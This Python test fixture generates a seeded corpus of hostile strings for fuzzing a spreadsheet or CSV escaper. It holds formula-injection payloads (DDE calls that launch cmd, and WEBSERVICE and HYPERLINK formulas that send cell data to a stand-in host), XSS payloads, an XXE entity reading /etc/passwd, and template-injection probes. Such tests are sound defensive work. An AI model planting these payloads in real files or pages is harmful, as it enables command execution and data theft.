"""5,000 texts made to hurt whoever looks at them: the corpus, and its parts put together anew.

Always the same ones: the generator is seeded.
"""

import random
from itertools import islice, product

from tests.keyholder.hostile import HOSTILE

COUNT = 5_000
STARTERS = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b"
BEFORE = [
    "", " ", "\t", "\r", "\n", "\r\n", "\x00", "\x0b", "\x0c", "\x1f", "\x85", "\xa0", "\u2028",
    "\u2029", "\u3000", "\u200b", "\ufeff", "\u202e", "\u2066", '"', "'", "''", '","', ";", ';"',
    "a;", "a\t", "a,", 'a","', "a|", "\x1b[0m", "\ud800", "x\r\n", '"\r\n"', "\u2800", "\u00ad",
]  # fmt: skip
FORMULAS = [
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https://x.example?"&A1,"click")',
    'WEBSERVICE("https://x.example/"&A1)', 'IMPORTXML("https://x.example","//a")',
    "SUM(1+1)*cmd|'/c calc'!A0",
    'DDE("cmd";"/C calc";"x")', "MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
    'IMAGE("https://x.example/a.png")', 'EXEC("calc")', "R1C1", "A1:B2", "{1,2}", "1|2!A3",
]  # fmt: skip
MARKUP = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<svg><animate onbegin=alert(1)>", "<iframe src=https://x.example>",
    '"><img src=x onerror=alert(1)>', "' onmouseover=alert(1) x='", '" onmouseover="alert(1)',
    "`onmouseover=alert(1)`", "<a href='javascript:alert(1)'>x</a>", "javascript:alert(1)",
    "&lt;script&gt;", "&#60;script&#62;", "&#x3c;script>", "&amp;lt;", "]]>", "<![CDATA[x]]>",
    "<!--", "-->", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "&y;", "<style>*{background:url(https://x.example)}</style>", "<base href=//x.example>",
    "![x](https://x.example/a.png)", "[x](javascript:alert(1))", "[x]: https://x.example",
    "![x][y]", "<https://x.example>", "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}",
    "<meta http-equiv=refresh content=0;url=//x.example>", "<math><mtext></form>",
]  # fmt: skip
SHEETS = [
    "_x000D_", "_x0000_", "_x003D_1+1", "_x005F_x000D_", "_x001B_[31m", "_xD800_", "_X000d_",
    "\x08\x0e\x1a", "\ufffe\uffff", "\ud83d", "\udc00\ud800", "1E5", "0123", "TRUE", "1/2",
    "2026-01-31", "#REF!", "#N/A", "1,234", "'1", "a::b", "a|b|c", "::", "|", "\\", "%n%s%x",
]  # fmt: skip


def make_strings() -> list[str]:
    """COUNT different texts, the whole corpus among them."""
    chance = random.Random(20_260_131)
    found = dict.fromkeys([*HOSTILE, *MARKUP, *SHEETS])
    starts = list(product(BEFORE, STARTERS, FORMULAS))
    chance.shuffle(starts)
    found.update(dict.fromkeys("".join(parts) for parts in islice(starts, COUNT // 2)))
    long = ["=" + "A" * 9_000, "\x1b" * 5_000, "=1+1\n" * 1_600, "<b>" * 700, "&" * 8_000]
    found.update(dict.fromkeys(long))
    parts = [*HOSTILE, *MARKUP, *SHEETS, *BEFORE, *STARTERS, *FORMULAS]
    while len(found) < COUNT:
        found["".join(chance.choices(parts, k=chance.randint(2, 5)))] = None
    return list(found)[:COUNT]
